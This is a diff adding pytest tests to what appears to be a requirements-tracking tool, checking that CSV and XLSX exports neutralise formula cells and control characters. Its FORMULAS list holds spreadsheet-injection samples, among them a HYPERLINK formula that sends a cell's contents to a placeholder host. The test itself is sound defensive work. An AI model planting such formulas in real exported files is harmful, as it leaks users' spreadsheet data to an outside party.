@@ -106,3 +106,41 @@ def test_a_bad_value_writes_nothing(project: Path) -> None:
     with pytest.raises(MedtraceError, match="row 3, status"):
         import_table(project, KIND, table)
     assert load_project(project).items == ()
+
+
+def _item_file(root: Path, item_id: str, title: str, body: str = "Text.") -> None:
+    path = root / "items" / f"{item_id}.md"
+    path.parent.mkdir(exist_ok=True)
+    item = NewItem(id=item_id, kind=KIND, title=title, body=body)
+    path.write_text(render_item(item), "utf-8")
+
+
+FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"Click")', "+1+2", "-3", "@SUM(A1)", "'=quoted"]
+
+
+def test_a_csv_export_never_holds_a_formula_cell_and_imports_back(tmp_path: Path) -> None:
+    source = _project(tmp_path / "a")
+    for number, title in enumerate(FORMULAS, start=1):
+        _item_file(source, f"SRS-{number}", title, body=title)
+    table = tmp_path / "table.csv"
+    export_table(source, KIND, table)
+    import csv
+
+    with table.open(newline="", encoding="utf-8") as stream:
+        cells = [cell for row in csv.reader(stream) for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    target = _project(tmp_path / "b")
+    import_table(target, KIND, table)
+    titles = {item.id: item.title for item in load_project(target).items}
+    assert titles == {f"SRS-{n}": title for n, title in enumerate(FORMULAS, start=1)}
+
+
+def test_an_xlsx_export_of_titles_with_control_characters_is_written(tmp_path: Path) -> None:
+    source = _project(tmp_path / "a")
+    _item_file(source, "SRS-1", "Alarm\x07 bell", body="Line\x1bone")
+    table = tmp_path / "table.xlsx"
+    assert export_table(source, KIND, table) == 1
+    target = _project(tmp_path / "b")
+    import_table(target, KIND, table)
+    (item,) = load_project(target).items
+    assert item.title == "Alarm bell"
